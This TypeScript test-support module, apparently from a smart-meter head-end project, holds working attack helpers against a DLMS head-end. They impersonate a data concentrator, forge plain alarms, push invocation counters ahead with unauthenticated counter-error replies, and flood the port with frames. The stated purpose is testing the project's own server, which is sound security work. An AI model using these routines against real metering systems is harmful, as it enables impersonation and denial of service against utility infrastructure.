/** Raw TCP connections to a DLMS port without keys, for tests and workloads that attack a head-end. */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { encode } from '@hes/dlms/codec/codec.ts';
import { doubleLongUnsigned, octetString, structure, unsigned } from '@hes/dlms/cosem/data.ts';
import { encodeNotification } from '@hes/dlms/association/notification.ts';
import { encodeGateway } from '@hes/dlms/framing/gateway.ts';
import { encodeWrapper, WrapperDeframer } from '@hes/dlms/framing/wrapper.ts';

export interface Target {
  host: string;
  port: number;
  /** Source address of the connection; default: any of this machine. */
  from?: string;
}

const UNREQUESTED = { source: 1, destination: 1 };
const AARQ = 0x60;
const HELLO = structure({ name: octetString, systemTitle: octetString, kind: unsigned });
const NO_TITLE = new Uint8Array(8);
const MAX_UNSENT = 256 * 1024;

/** The identification of a DCU with this serial number. */
export function hello(sn: string, systemTitle: Uint8Array = NO_TITLE): Uint8Array {
  const body = encode(HELLO, { name: Buffer.from(sn, 'latin1'), systemTitle, kind: 0 });
  return encodeWrapper(UNREQUESTED, encodeNotification({ longInvokeId: 1, body }));
}

/** An alarm in the clear: of a meter behind the gateway, or of the DCU itself. */
export function plainAlarm(longInvokeId: number, meterSn?: string): Uint8Array {
  const apdu = encodeNotification({ longInvokeId, confirmed: true, body: encode(doubleLongUnsigned, 1) });
  return encodeWrapper(
    UNREQUESTED,
    meterSn === undefined ? apdu : encodeGateway({ networkId: 0, address: Buffer.from(meterSn, 'latin1') }, apdu),
  );
}

/** Connects to the DLMS port. Data from the head-end is discarded unless a listener is added. */
export async function openLine({ host, port, from }: Target): Promise<Socket> {
  const socket = connect({ host, port, noDelay: true, ...(from === undefined ? {} : { localAddress: from }) });
  socket.on('error', () => undefined);
  socket.resume();
  await once(socket, 'connect');
  return socket;
}

/** Identifies as a DCU; resolves with the open connection. */
export async function impersonate(target: Target, sn: string, systemTitle?: Uint8Array): Promise<Socket> {
  const line = await openLine(target);
  line.write(hello(sn, systemTitle));
  return line;
}

/**
 * Responds to every association request with a counter error that asks the head-end to continue `ahead` above the counter
 * of the request.
 */
export function burnCounters(line: Socket, ahead: number): { answered(): number; counters: readonly number[] } {
  const deframer = new WrapperDeframer();
  const counters: number[] = [];
  line.on('data', (chunk: Buffer) => {
    for (const { source, destination, apdu } of deframer.push(chunk)) {
      const counter = counterOfRequest(apdu);
      if (counter === undefined) continue;
      counters.push(counter);
      line.write(encodeWrapper({ source: destination, destination: source }, counterError(counter + ahead)));
    }
  });
  return { answered: () => counters.length, counters };
}

/** An EXCEPTION-RESPONSE with the service error `invocation-counter-error`, which is not authenticated. */
function counterError(counter: number): Uint8Array {
  const octets = Buffer.of(0xd8, 0x01, 0x06, 0, 0, 0, 0);
  octets.writeUInt32BE(counter, 3);
  return octets;
}

/** The invocation counter in the ciphered InitiateRequest (tag 21) of an AARQ. */
function counterOfRequest(apdu: Uint8Array): number | undefined {
  if (apdu[0] !== AARQ) return undefined;
  const octets = Buffer.from(apdu);
  const at = octets.findIndex((octet, index) => octet === 0x21 && (octets[index + 2] ?? 0) >> 4 === 3);
  return at < 0 ? undefined : octets.readUInt32BE(at + 3);
}

/**
 * Writes a frame many times at the rate of the head-end; resolves with the number written, after the last one or the end
 * of the connection.
 */
export async function flood(line: Socket, frame: Uint8Array, count: number): Promise<number> {
  let written = 0;
  const batch = Buffer.concat(Array.from({ length: 100 }, () => frame));
  while (written < count && !line.destroyed) {
    const now = Math.min(100, count - written);
    line.write(now === 100 ? batch : batch.subarray(0, now * frame.length));
    written += now;
    if (line.writableLength > MAX_UNSENT) await Promise.race([once(line, 'drain'), once(line, 'close')]).catch(() => undefined);
  }
  return written;
}
